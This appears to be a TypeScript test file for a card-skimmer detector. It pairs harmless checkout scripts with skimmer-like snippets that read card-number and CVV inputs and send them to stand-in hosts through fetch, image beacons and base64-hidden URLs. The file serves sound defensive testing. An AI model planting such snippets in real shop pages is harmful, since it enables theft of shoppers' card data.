import { skimmer } from '../../../classifiers/detectors/skimmer.ts';
import { formOf, requestOf, scriptOf } from '../capture-builder.ts';
import { describeDetector } from './table.ts';

const card = { forms: [formOf(['card-number', 'card-expiry', 'card-code'])] };
const reads = 'document.querySelectorAll("input").forEach(e => { if (/card_number|cvv/.test(e.name)) o[e.name] = e.value; });';

describeDetector(skimmer, [
  { page: 'a checkout with a script that checks the card number', raises: [], sketch: { ...card, scripts: ['document.getElementById("card-number").addEventListener("input", check)'] } },
  { page: 'the script of a payment provider', raises: [], sketch: { ...card, scripts: [scriptOf(`${reads} fetch("https://api.stripe.com/v1")`, 'https://js.stripe.com/v3/')] } },
  { page: 'analytics that count clicks in a checkout', raises: [], sketch: { ...card, scripts: ['if (location.href.includes("checkout")) navigator.sendBeacon("https://stats.other.test/c", "1")'] } },
  { page: 'a shop that sends a card to itself', raises: [], sketch: { ...card, scripts: [`${reads} fetch("https://pages.example.test/pay", { body: JSON.stringify(o) })`] } },
  { page: 'a script that sends card fields to a stranger', raises: ['fields-sent-elsewhere'], sketch: { ...card, scripts: [`${reads} fetch("https://pay.other.test/x", o)`] } },
  { page: 'a script that beacons card fields', raises: ['fields-beaconed'], sketch: { ...card, scripts: [`${reads} new Image().src = "https://px.other.test/p.gif?d=" + btoa(JSON.stringify(o))`] } },
  { page: 'a script that hides where it sends', raises: ['fields-sent-hidden'], sketch: { ...card, scripts: [`${reads} var u = atob("${Buffer.from('https://px.other.test/collect').toString('base64')}"); new Image().src = u + o`] } },
  { page: 'a script that hides card words', raises: ['checkout-gate', 'fields-sent-hidden', 'hidden-checkout-code'], sketch: { ...card, scripts: [`var c = atob("${Buffer.from('document.querySelectorAll("input[name=cc_number]"); location.href.indexOf("checkout"); "https://px.other.test/a"').toString('base64')}"); new Image().src = c`] } },
  { page: 'card fields that left', raises: ['typed-data-left'], sketch: { ...card, requests: [requestOf('https://px.other.test/p', { postData: 'card_number=4&cvv=1' })] } },
]);
